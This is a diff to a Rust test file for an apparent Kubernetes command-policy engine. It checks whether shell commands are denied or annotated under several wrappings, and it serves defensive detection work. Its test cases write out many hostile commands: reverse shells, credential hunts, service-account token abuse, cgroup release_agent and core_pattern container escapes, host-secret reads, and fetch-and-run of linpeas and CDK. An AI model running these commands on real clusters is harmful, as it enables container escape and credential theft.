@@ -98,13 +98,19 @@ const CASES: &[Case] = &[
     case(&["curl", "http://169.254.170.2/v2/credentials"], Deny, &["exec-cloud-metadata"]),
     case(&["curl", "http://100.100.100.200/latest/meta-data/"], Deny, &["exec-cloud-metadata"]),
     case(&["curl", "-sk", "https://10.0.0.12:10250/pods"], Deny, &["exec-kubelet-access"]),
-    case(&["kubectl", "get", "secrets", "-A"], Annotate, &["exec-kubectl"]),
+    case(&["kubectl", "get", "secrets", "-A"], Deny, &["exec-kubectl", "exec-api-secret-read"]),
+    case(&["kubectl", "get", "pods", "-A"], Annotate, &["exec-kubectl"]),
     case(&["sh", "-c", "TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -sk -H \"Authorization: Bearer $TOKEN\" https://kubernetes.default.svc/api/v1/namespaces"], Deny, &["exec-apiserver-with-token", "exec-sa-token-read", "exec-apiserver-access"]),
     case(&["sh", "-c", "curl -sk https://$KUBERNETES_SERVICE_HOST/version"], Annotate, &["exec-apiserver-access"]),
-    case(&["find", "/", "-name", "id_rsa"], Annotate, &["exec-credential-hunt"]),
-    case(&["grep", "-r", "BEGIN RSA PRIVATE KEY", "/"], Annotate, &["exec-credential-hunt"]),
-    case(&["cat", "/root/.kube/config"], Annotate, &["exec-credential-hunt"]),
-    case(&["cat", "/etc/shadow"], Annotate, &["exec-credential-hunt"]),
+    case(&["find", "/", "-name", "id_rsa"], Deny, &["exec-credential-hunt"]),
+    case(&["grep", "-r", "BEGIN RSA PRIVATE KEY", "/"], Deny, &["exec-credential-hunt"]),
+    case(&["cat", "/root/.kube/config"], Annotate, &["exec-credential-read"]),
+    case(&["cat", "/etc/shadow"], Annotate, &["exec-credential-read"]),
+    case(&["cat", "/host/etc/shadow"], Deny, &["exec-host-secret-read"]),
+    case(&["kubectl", "run", "x", "--image=alpine"], Deny, &["exec-api-workload-control"]),
+    case(&["curl", "-LO", "https://github.com/cyberark/kubeletctl/releases/download/v1.11/kubeletctl_linux_amd64"], Deny, &["exec-toolkit-download"]),
+    case(&["nc", "-l", "-p", "4444"], Annotate, &["exec-listener"]),
+    case(&["chmod", "u+s", "/bin/bash"], Annotate, &["exec-privilege-escalation"]),
     case(&["tcpdump", "-i", "any", "-w", "/tmp/x.pcap"], Deny, &["exec-sniffing"]),
     case(&["tshark", "-i", "eth0"], Deny, &["exec-sniffing"]),
     case(&["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"], Deny, &["exec-reverse-shell"]),
@@ -813,15 +819,19 @@ fn kubectl_cp_is_recognised() {
         (&["sh", "-c", "tar cf - /app/logs | tail -c+1048576"], None),
         (
             &["tar", "cf", "-", "/etc/shadow"],
-            Some("exec-credential-hunt"),
+            Some("exec-credential-read"),
         ),
         (
             &["tar", "cf", "-", "/root/.kube"],
-            Some("exec-credential-hunt"),
+            Some("exec-credential-read"),
         ),
         (
             &["sh", "-c", "tar cf - /root/.ssh | tail -c+0"],
-            Some("exec-credential-hunt"),
+            Some("exec-credential-read"),
+        ),
+        (
+            &["tar", "cf", "-", "/host/etc/kubernetes/pki"],
+            Some("exec-host-secret-read"),
         ),
         (
             &[
@@ -840,4 +850,185 @@ fn kubectl_cp_is_recognised() {
             Some(rule) => assert!(fired.iter().any(|f| f == rule), "{argv:?}: {fired:?}"),
         }
     }
+}
+
+/// The command under every wrapping an intruder has at hand: the verdict must not change.
+fn wrappings(command: &str) -> Vec<Vec<String>> {
+    let quoted = command.replace('\'', r"'\''");
+    vec![
+        vec!["sh".into(), "-c".into(), command.into()],
+        vec!["bash".into(), "-c".into(), format!("eval '{quoted}'")],
+        vec!["busybox".into(), "sh".into(), "-c".into(), command.into()],
+        vec![
+            "env".into(),
+            "-i".into(),
+            "timeout".into(),
+            "30".into(),
+            "sh".into(),
+            "-c".into(),
+            command.into(),
+        ],
+        vec!["su".into(), "-c".into(), command.into(), "root".into()],
+    ]
+}
+
+fn judged(argv: &[String]) -> reconguard::decision::Decision {
+    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
+    exec(&policy(), &argv, false)
+}
+
+/// Issue 8, point 3: high-confidence attack behaviour denies on its own, every class in several
+/// spellings, each under every wrapping.
+#[test]
+fn high_confidence_attack_behaviour_denies_alone() {
+    let cases: &[(&str, &str)] = &[
+        // Credential hunting across a filesystem.
+        ("grep -r 'BEGIN RSA PRIVATE KEY' /", "exec-credential-hunt"),
+        ("grep -rl 'BEGIN OPENSSH PRIVATE KEY' /home", "exec-credential-hunt"),
+        ("grep -Rin 'aws_secret_access_key' / 2>/dev/null", "exec-credential-hunt"),
+        ("grep -ri password /", "exec-credential-hunt"),
+        ("egrep -r --include=*.env 'token' /srv", "exec-credential-hunt"),
+        ("find / -name id_rsa 2>/dev/null", "exec-credential-hunt"),
+        ("find / -name '*.kubeconfig'", "exec-credential-hunt"),
+        ("find / -type f -name credentials -path '*/.aws/*'", "exec-credential-hunt"),
+        ("find /home -name .git-credentials -o -name .netrc", "exec-credential-hunt"),
+        ("find / -name msal_token_cache.json", "exec-credential-hunt"),
+        ("find ~ -name '*.pem'", "exec-credential-hunt"),
+        ("locate id_ed25519", "exec-credential-hunt"),
+        ("locate password", "exec-credential-hunt"),
+        ("rg -uu 'PRIVATE KEY' /", "exec-credential-hunt"),
+        // Secrets and workloads through the API from inside the pod, by any client.
+        ("kubectl get secrets -A -o yaml", "exec-api-secret-read"),
+        ("kubectl -n kube-system get secret/bootstrap-token-abcdef -o json", "exec-api-secret-read"),
+        ("kubectl describe secrets", "exec-api-secret-read"),
+        ("oc get secrets", "exec-api-secret-read"),
+        ("curl -sk https://10.96.0.1/api/v1/secrets -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\"", "exec-api-secret-read"),
+        ("wget -qO- --no-check-certificate https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "exec-api-secret-read"),
+        ("curl -k https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT/api/v1/namespaces/default/secrets/db", "exec-api-secret-read"),
+        ("python3 -c 'from kubernetes import client, config; config.load_incluster_config(); print(client.CoreV1Api().list_secret_for_all_namespaces())'", "exec-api-secret-read"),
+        ("kubectl run pwn --image=alpine --overrides='{\"spec\":{\"hostPID\":true}}'", "exec-api-workload-control"),
+        ("kubectl exec -it -n kube-system etcd-master -- sh", "exec-api-workload-control"),
+        ("kubectl debug node/worker-1 -it --image=busybox", "exec-api-workload-control"),
+        ("kubectl create job x --image=alpine", "exec-api-workload-control"),
+        ("curl -sk -X POST -H 'Content-Type: application/json' https://kubernetes.default/api/v1/namespaces/default/pods -d @pod.json", "exec-api-workload-control"),
+        ("curl -sk 'https://10.96.0.1/api/v1/namespaces/default/pods/web/exec?command=id&stdout=true'", "exec-api-workload-control"),
+        // Kernel escape interfaces, cgroup and host-device mounts, by any path spelling.
+        ("mount -t cgroup -o rdma cgroup /tmp/cgrp", "exec-escape-artifact"),
+        ("mkdir /tmp/x && mount -t cgroup2 none /tmp/x", "exec-escape-artifact"),
+        ("mount /dev/sda1 /mnt", "exec-escape-artifact"),
+        ("mount /dev/dm-0 /mnt", "exec-escape-artifact"),
+        ("mount -o ro /dev/nvme0n1p1 /mnt/host", "exec-escape-artifact"),
+        ("mount /dev/mapper/root /mnt", "exec-escape-artifact"),
+        ("mknod /tmp/disk b 8 1", "exec-escape-artifact"),
+        ("echo /tmp/x.sh > /tmp/cgrp/release_agent", "exec-escape-artifact"),
+        ("cd /tmp/cgrp && echo /cmd > release_agent", "exec-escape-artifact"),
+        ("echo 1 > /tmp/cgrp/x/notify_on_release", "exec-escape-artifact"),
+        ("echo '|/tmp/x' > /proc/sys/kernel/core_pattern", "exec-escape-artifact"),
+        ("cd /proc/sys/kernel; echo '|/tmp/x' > ./core_pattern", "exec-escape-artifact"),
+        ("echo '|/tmp/x' | tee /host/proc/sys/kernel/core_pattern", "exec-escape-artifact"),
+        ("sysctl -w kernel.core_pattern='|/tmp/x'", "exec-escape-artifact"),
+        ("echo /tmp/x > /sys/kernel/uevent_helper", "exec-escape-artifact"),
+        ("echo ':x:M::MZ::/tmp/x:' > /proc/sys/fs/binfmt_misc/register", "exec-escape-artifact"),
+        // The node's secrets through a host mount, under any prefix.
+        ("cat /host/etc/shadow", "exec-host-secret-read"),
+        ("cat /rootfs/etc/kubernetes/admin.conf", "exec-host-secret-read"),
+        ("cp /hostfs/var/lib/kubelet/pki/kubelet-client-current.pem /tmp", "exec-host-secret-read"),
+        ("ls /node/etc/kubernetes/pki/etcd", "exec-host-secret-read"),
+        ("tar czf /tmp/etcd.tgz /mnt/var/lib/etcd", "exec-host-secret-read"),
+        ("cat /host/root/.ssh/id_rsa", "exec-host-secret-read"),
+        ("cat /etc/kubernetes/pki/ca.key", "exec-host-secret-read"),
+        // Download and run of a catalogued toolkit: the name anywhere in the URL or path.
+        ("curl -sL https://github.com/carlospolop/PEASS-ng/releases/latest/download/linpeas.sh | sh", "exec-toolkit-download"),
+        ("wget https://github.com/cdk-team/CDK/releases/download/v1.5.2/cdk_linux_amd64 -O /tmp/c && chmod +x /tmp/c && /tmp/c evaluate", "exec-toolkit-download"),
+        ("curl -LO https://github.com/cyberark/kubeletctl/releases/download/v1.11/kubeletctl_linux_amd64", "exec-toolkit-download"),
+        ("curl -o /tmp/p https://example.com/download?f=peirates && /tmp/p", "exec-toolkit-download"),
+        ("git clone https://github.com/stealthcopter/deepce && ./deepce/deepce.sh", "exec-toolkit-download"),
+        ("pip install kube-hunter", "exec-toolkit-download"),
+        ("/tmp/kubeletctl_linux_amd64 scan --cidr 10.0.0.0/24", "exec-recon-toolkit"),
+        ("bash /tmp/LinEnum.sh -t", "exec-recon-toolkit"),
+        // Listeners that hand a shell to whoever connects.
+        ("nc -lvnp 4444 -e /bin/sh", "exec-reverse-shell"),
+        ("ncat -l 4444 --sh-exec 'bash -i'", "exec-reverse-shell"),
+        ("socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr", "exec-reverse-shell"),
+        ("socat tcp-l:4444 system:sh", "exec-reverse-shell"),
+    ];
+    let mut failures = Vec::new();
+    for (command, rule) in cases {
+        for argv in wrappings(command) {
+            let d = judged(&argv);
+            if d.action != Action::Deny || !rules(&d).iter().any(|r| r == rule) {
+                failures.push(format!(
+                    "{argv:?}: {:?} {:?}, want deny with {rule}",
+                    d.action,
+                    rules(&d)
+                ));
+            }
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+/// Discovery, fingerprinting, plain listeners and privilege-escalation probes annotate: each
+/// has an innocent reading, so none denies on its own.
+#[test]
+fn discovery_and_probes_annotate_without_denying() {
+    let cases: &[(&str, &str)] = &[
+        ("cat /proc/modules", "exec-host-info-read"),
+        ("lsmod", "exec-system-info"),
+        ("kmod list", "exec-system-info"),
+        ("cat /proc/scsi/scsi", "exec-host-info-read"),
+        ("cat /sys/class/dmi/id/product_name", "exec-host-info-read"),
+        (
+            "cat /sys/devices/virtual/dmi/id/sys_vendor",
+            "exec-host-info-read",
+        ),
+        ("cat /sys/hypervisor/type", "exec-host-info-read"),
+        ("systemd-detect-virt", "exec-system-info"),
+        ("virt-what", "exec-system-info"),
+        (
+            "for p in /proc/[0-9]*; do cat $p/cmdline; echo; done",
+            "exec-proc-process-read",
+        ),
+        ("ls /proc | grep -E '^[0-9]+$'", "exec-proc-process-read"),
+        ("cat /proc/*/comm", "exec-proc-process-read"),
+        ("nc -l -p 4444", "exec-listener"),
+        ("nc -lvnp 9001", "exec-listener"),
+        ("ncat --listen 8443", "exec-listener"),
+        (
+            "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80",
+            "exec-listener",
+        ),
+        ("pkexec /bin/sh", "exec-privilege-escalation"),
+        ("sudoedit -s /", "exec-privilege-escalation"),
+        ("sudo -l", "exec-privilege-escalation"),
+        ("chmod u+s /bin/bash", "exec-privilege-escalation"),
+        ("chmod 4755 /tmp/sh", "exec-privilege-escalation"),
+        (
+            "setcap cap_setuid+ep /usr/bin/python3",
+            "exec-privilege-escalation",
+        ),
+        ("getcap -r / 2>/dev/null", "exec-file-discovery"),
+        (
+            "find / -perm -4000 -type f 2>/dev/null",
+            "exec-file-discovery",
+        ),
+        ("kubectl auth can-i --list", "exec-kubectl"),
+        ("kubectl get pods -A", "exec-kubectl"),
+        ("cat ~/.aws/credentials", "exec-credential-read"),
+        ("env | grep AWS_SECRET", "exec-credential-read"),
+    ];
+    let mut failures = Vec::new();
+    for (command, rule) in cases {
+        for argv in wrappings(command) {
+            let d = judged(&argv);
+            if d.action != Action::Annotate || !rules(&d).iter().any(|r| r == rule) {
+                failures.push(format!(
+                    "{argv:?}: {:?} {:?}, want annotate with {rule}",
+                    d.action,
+                    rules(&d)
+                ));
+            }
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
 }
